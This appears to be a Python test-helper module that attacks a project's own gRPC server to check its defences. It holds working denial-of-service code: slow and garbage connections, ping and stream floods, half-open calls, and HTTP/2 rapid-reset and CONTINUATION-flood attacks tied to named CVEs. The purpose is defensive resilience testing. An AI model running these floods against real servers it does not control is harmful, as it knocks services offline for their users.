"""What a stranger can do to a gRPC server; each attack returns when it is over, and what became of it."""

import asyncio
import os
from collections.abc import Sequence
from contextlib import AsyncExitStack, suppress
from dataclasses import dataclass

import grpc
import grpc.aio

from tests.faults.http2 import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    RawConnection,
    call_headers,
    frame,
    header_block,
)

WATCH = "/mltest.v1.AgentService/WatchAgent"
DESCRIBE = "/mltest.v1.AgentService/DescribeAgent"
STATUS = "/mltest.v1.BlobService/GetBlobStatus"

_STREAMS = 16
"""What a server of ours allows on one connection."""
_OPENING = 64
"""Connections that are opened at the same time."""


@dataclass(frozen=True, slots=True)
class Closed:
    """What became of many connections."""

    at_once: int
    """Closed within two seconds of being opened."""
    last_s: float
    """When the last one was closed, from the start of the attack."""


async def silent_connections(address: str, count: int, *, sent: bytes = b"", byte_every_s: float = 0.0) -> Closed:
    """Open many connections that say `sent`, one byte after the other where `byte_every_s` is given."""
    clock = asyncio.get_running_loop().time
    start_s = clock()
    slots = asyncio.Semaphore(_OPENING)
    host, _, port = address.rpartition(":")

    async def one() -> tuple[float, float]:
        async with slots:
            opened_s = clock()
            try:
                reader, writer = await asyncio.open_connection(host, int(port))
            except OSError:
                return opened_s, clock()
        talking = asyncio.ensure_future(_say(writer, sent, byte_every_s))
        with suppress(OSError):
            await reader.read(-1)
        closed_s = clock()
        talking.cancel()
        writer.close()
        return opened_s, closed_s

    times = await asyncio.gather(*(one() for _ in range(count)))
    at_once = sum(closed_s - opened_s < 2.0 for opened_s, closed_s in times)
    return Closed(at_once, max(closed_s for _, closed_s in times) - start_s)


async def garbage(address: str, count: int) -> Closed:
    """Open many connections that send random bytes."""
    return await silent_connections(address, count, sent=os.urandom(4096))


async def ping_flood(address: str) -> int:
    """Send pings until the connection is closed; return how many went out."""
    async with RawConnection(address) as connection:
        for number in range(100_000):
            if not await connection.send(frame(PING, payload=number.to_bytes(8, "big"))):
                return number
            await asyncio.sleep(0.001)
    raise AssertionError("a flood of pings was tolerated")


async def rapid_resets(address: str, count: int) -> None:
    """Open and reset streams as fast as possible (CVE-2023-44487), over new connections where one is closed."""
    headers = header_block(call_headers(DESCRIBE))
    while count > 0:
        async with RawConnection(address) as connection:
            stream = 1
            while count > 0 and await connection.send(
                b"".join(
                    frame(HEADERS, END_HEADERS, stream + 2 * number, headers)
                    + frame(RST_STREAM, 0, stream + 2 * number, (8).to_bytes(4, "big"))
                    for number in range(100)
                )
            ):
                stream += 200
                count -= 100


async def endless_headers(address: str, size_bytes: int) -> bool:
    """Send headers that never end (CVE-2024-27316); return whether the server closed the connection."""
    async with RawConnection(address) as connection:
        await connection.send(frame(HEADERS, 0, 1, header_block(call_headers(DESCRIBE))))
        piece = frame(CONTINUATION, 0, 1, header_block({f"x-{os.urandom(4).hex()}": "y" * 8000}))
        for _ in range(size_bytes // len(piece)):
            if not await connection.send(piece):
                return True
            await asyncio.sleep(0)
        with suppress(TimeoutError):
            await asyncio.wait_for(connection.closed(), 5.0)
        return connection.is_closed


async def stream_flood(address: str, count: int, *, connections: int = 1) -> AsyncExitStack:
    """Open many streams over few connections; they stay until the returned stack is closed."""
    async with AsyncExitStack() as stack:
        for _ in range(connections):
            channel = await stack.enter_async_context(_channel(address))
            watch: grpc.aio.UnaryStreamMultiCallable[bytes, bytes] = channel.unary_stream(WATCH)
            calls = [watch(b"") for _ in range(count // connections)]
            for call in calls:
                stack.callback(call.cancel)
            await _any_answer(calls)
        return stack.pop_all()
    raise AssertionError("unreachable")


async def half_calls(address: str, connections: int) -> "HalfCalls":
    """Open as many calls as there may be, and never send their requests."""
    headers = header_block(call_headers(DESCRIBE))
    calls = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * number, headers) for number in range(_STREAMS))
    async with AsyncExitStack() as stack:
        opened = [await stack.enter_async_context(RawConnection(address)) for _ in range(connections)]
        for connection in opened:
            await connection.send(calls)
        return HalfCalls(opened, stack.pop_all())
    raise AssertionError("unreachable")


@dataclass(frozen=True, slots=True)
class HalfCalls:
    """Calls whose requests are missing; they are given up when this is left."""

    connections: Sequence[RawConnection]
    stack: AsyncExitStack

    async def ended(self) -> None:
        """Return once the server has ended all of them."""
        for connection in self.connections:
            await connection.received_frames(HEADERS, _STREAMS)

    async def __aenter__(self) -> "HalfCalls":
        return self

    async def __aexit__(self, *_: object) -> None:
        await self.stack.aclose()


async def refusal(
    address: str, request: bytes, *, metadata: Sequence[tuple[str, str]] = (), is_gzipped: bool = False
) -> grpc.StatusCode:
    """Send one call and return how it is refused."""
    compression = grpc.Compression.Gzip if is_gzipped else grpc.Compression.NoCompression
    async with _channel(address) as channel:
        call: grpc.aio.UnaryUnaryMultiCallable[bytes, bytes] = channel.unary_unary(STATUS)
        try:
            await call(request, metadata=tuple(metadata), compression=compression, timeout=30)
        except grpc.aio.AioRpcError as error:
            return error.code()
    return grpc.StatusCode.OK


def _channel(address: str) -> grpc.aio.Channel:
    """Return a channel without any limit of its own."""
    options = [
        ("grpc.max_send_message_length", -1),
        ("grpc.max_metadata_size", 1 << 26),
        ("grpc.use_local_subchannel_pool", 1),
    ]
    return grpc.aio.insecure_channel(address, options=options)


async def _any_answer(calls: Sequence["grpc.aio.UnaryStreamCall[bytes, bytes]"]) -> None:
    reading = [asyncio.ensure_future(call.read()) for call in calls]
    _, others = await asyncio.wait(reading, return_when=asyncio.FIRST_COMPLETED)
    for other in others:
        other.cancel()
    await asyncio.gather(*reading, return_exceptions=True)


async def _say(writer: asyncio.StreamWriter, text: bytes, byte_every_s: float) -> None:
    with suppress(OSError):
        if not byte_every_s:
            writer.write(text)
            return
        for number in range(len(text)):
            writer.write(text[number : number + 1])
            await writer.drain()
            await asyncio.sleep(byte_every_s)


SLOW_TEXT = PREFACE
"""What a slow client says: the truth, but too slowly."""
